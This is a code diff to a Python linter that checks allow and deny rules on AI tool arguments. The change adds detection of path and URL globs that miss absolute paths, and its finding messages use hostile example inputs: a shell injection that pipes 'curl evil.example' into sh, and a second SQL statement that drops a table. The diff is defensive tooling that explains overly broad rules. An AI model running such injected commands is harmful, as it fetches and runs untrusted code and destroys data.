@@ -16,7 +16,6 @@ from nacre.policy.subjects import is_about
 
 Definitions = Mapping[str, Iterable[Mapping[str, Any]]]
 
-PATHS = re.compile(r"path|file|dir|folder|uri|url|source|destination|target", re.IGNORECASE)
 _ADDRESSES = frozenset(
     (
         *("to", "cc", "bcc", "email", "emails", "mail", "address", "addresses", "recipient"),
@@ -28,6 +27,12 @@ _COMMANDS = frozenset(("cmd", "command", "commandline", "command_line", "script"
 _STATEMENTS = frozenset(("sql", "statement"))
 _VERB = re.compile(r"\s*([A-Za-z]+)\b")
 _ADDRESS_GLOB = re.compile(r"[^@\s,;]+@(?:\*|(?:\*\.)?[^@*?\s,;]+)")
+# Whole words of a name, so that `profile` and `resourceId` are no paths.
+PATHS = re.compile(
+    r"(?:^|[_-]|(?<=[a-z])(?=[A-Z]))(?i:(?P<url>ur[il]s?)|paths?|files?|filenames?|dirs?"
+    r"|director(?:y|ies)|folders?|sources?|destinations?|targets?)(?=$|[_-]|[A-Z])"
+)
+_ANY_ROOT = re.compile(r"\**[/?]|\*\*|~|[A-Za-z]:|[A-Za-z][\w+.-]*://")
 _SINGLE_STAR = re.compile(r"(?<!\*)\*(?!\*)")
 
 
@@ -42,6 +47,7 @@ def in_arguments(rules: Sequence[Rule], place: int, tools: Definitions) -> Itera
         for finding in (
             *_addresses(rules, place, test),
             *_commands(rules, place, test),
+            *_absolute(rules, place, test),
             *_letters(rules, place, test),
             *_resources(rules, place, number),
         ):
@@ -74,7 +80,7 @@ def _addresses(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterato
             "address-list",
             f"{test.path} = '{globs[0]}' is about the whole text, which may hold several "
             f"addresses: 'eve@evil.example, {globs[0].replace('*', 'ann')}'",
-            f"write {_table(test, 'every_address', example)}",
+            f"write {_table(test, 'every_address', globs if told else [example])}",
             _narrowed(rules, place, test, "every_address", test.wanted) if told else None,
         )
         return
@@ -85,7 +91,8 @@ def _addresses(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterato
         "address-list",
         f"{test.path} = '{globs[0]}' misses the address in a list: "
         f"'{globs[0].replace('*', 'eve')}, ann@example.org'",
-        f"add a rule before it with {test.path}.every_address = '{example}'",
+        f"add a rule before it with {test.path}.every_address = "
+        + (_globs(globs) if told else f"'{example}'"),
         [*rules[:place], replace(rule, tests=tests), *rules[place:]] if told else None,
     )
 
@@ -100,14 +107,14 @@ def _commands(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator
         if is_literal(glob) or not (is_sql or key in _COMMANDS or " " in glob):
             continue
         if rule.action == "allow" and is_sql:
-            example = word if word in VERBS else "select"
+            verbs = tuple(dict.fromkeys(map(_verb_of, globs_of(test))))
             yield _finding(
                 rule,
                 "sql-statements",
                 f"{test.path} = '{glob}' covers a second statement too: "
                 f"'{glob.replace('*', '')}1; DROP TABLE t'",
-                f"write {_table(test, 'one_statement', example, glob)}",
-                _narrowed(rules, place, test, "one_statement", (example,)),
+                f"write {_table(test, 'one_statement', verbs, globs_of(test))}",
+                _narrowed(rules, place, test, "one_statement", verbs),
             )
         elif rule.action == "allow" and key in _COMMANDS:
             yield _finding(
@@ -115,7 +122,7 @@ def _commands(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator
                 "shell-operators",
                 f"{test.path} = '{glob}' covers what a shell makes of ';', '|' and '$()' too: "
                 f"'{glob.replace('*', '')}; curl evil.example | sh'",
-                f"write {_table(test, 'one_command', glob, glob)}",
+                f"write {_table(test, 'one_command', globs_of(test))}",
                 _narrowed(rules, place, test, "one_command", test.wanted)
                 if len(globs_of(test)) == len(test.wanted)
                 else None,
@@ -134,18 +141,75 @@ def _commands(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator
         return
 
 
+def _absolute(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
+    """Find globs against files that match no absolute path, or no URL."""
+    rule = rules[place]
+    name = PATHS.search(test.keys[-1])
+    if rule.action == "allow" or (name is None and test.keys[-1] != "*"):
+        return
+    if rule.name in ("resources/read", "prompts/get"):
+        return
+    is_url = name is not None and name["url"] is not None
+    below = {each: _below(each, is_url=is_url) for each in globs_of(test)}
+    blind = [each for each in below if _is_blind(each, test, is_url=is_url)]
+    if not blind:
+        return
+    wanted = tuple(
+        below[each] if isinstance(each, str) and each in blind else each for each in test.wanted
+    )
+    is_folder_open = not is_url and any("*" in each for each in blind)
+    more = f"; '{below[blind[0]]}/**' also covers folders" if is_folder_open else ""
+    changed = replace(test, wanted=wanted)
+    yield _finding(
+        rule,
+        "no-absolute-path",
+        f"{test.path} = {_globs(blind)} covers no {'URL' if is_url else 'absolute path'}"
+        + (", because '*' stops at '/'" if "*" in blind[0] else ""),
+        f"write {test.path} = {_globs([each for each in wanted if isinstance(each, str)])}{more}",
+        _with(
+            rules,
+            place,
+            replace(rule, tests=tuple(changed if each == test else each for each in rule.tests)),
+        )
+        if rule.action == "deny"
+        else None,
+    )
+
+
+def _is_blind(glob: str, test: ArgumentTest, *, is_url: bool) -> bool:
+    if is_url:
+        return "*" in glob and "/" not in glob and "**" not in glob
+    if _ANY_ROOT.match(glob) or re.search(r"[ @]|^(?!\./).*/", glob):
+        return False  # with a folder before it, it is meant from there on, as in a repository
+    looks_like_a_file = "*" in glob or "." in glob
+    is_sure = test.keys[-1] != "*" and re.search(r"(?i)path|file|dir|folder", test.keys[-1])
+    return looks_like_a_file if not is_sure else True
+
+
+def _below(glob: str, *, is_url: bool) -> str:
+    """Return the glob that covers the same in any folder, or anywhere in a URL."""
+    return _SINGLE_STAR.sub("**", glob) if is_url else f"**/{glob.removeprefix('./')}"
+
+
+def _globs(globs: Sequence[Any]) -> str:
+    """Spell one glob, or several as a list."""
+    shown = [f"'{each}'" for each in globs]
+    return shown[0] if len(shown) == 1 else f"[{', '.join(shown)}]"
+
+
 def _letters(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
     rule = rules[place]
     if rule.action == "allow" or test.ignores_case:
         return
-    for glob in globs_of(test):
+    for whole in globs_of(test):
+        glob = whole.removeprefix("**/").removesuffix("/**")
         word = glob.strip("*")
         if is_literal(glob) or "/" in glob or glob.upper() == glob.lower() or word[:1] == ".":
             continue
         yield _finding(
             rule,
             "letter-case",
-            f"{test.path} = '{glob}' does not cover '{glob.replace('*', '').swapcase()}'",
+            f"{test.path} = '{whole}' does not cover '{glob.replace('*', '').swapcase()}'",
             "add ignore_case = true",
             _with(
                 rules,
@@ -298,5 +362,19 @@ def _narrowed(
     return _with(rules, place, replace(rule, tests=(*rule.tests, worded)))
 
 
-def _table(test: ArgumentTest, word: str, wanted: str, glob: str | None = None) -> str:
-    return f'{test.path} = {{ glob = "{glob or wanted}", {word} = "{wanted}" }}'
+def _table(
+    test: ArgumentTest, word: str, wanted: Sequence[str], globs: Sequence[str] | None = None
+) -> str:
+    return f"{test.path} = {{ glob = {_toml(globs or wanted)}, {word} = {_toml(wanted)} }}"
+
+
+def _toml(texts: Sequence[str]) -> str:
+    shown = [f'"{each}"' for each in texts]
+    return shown[0] if len(shown) == 1 else f"[{', '.join(shown)}]"
+
+
+def _verb_of(glob: str) -> str:
+    """Return the verb of SQL that a glob begins with, the one that only reads for others."""
+    verb = _VERB.match(glob)
+    word = verb[1].lower() if verb is not None else ""
+    return word if word in VERBS else "select"
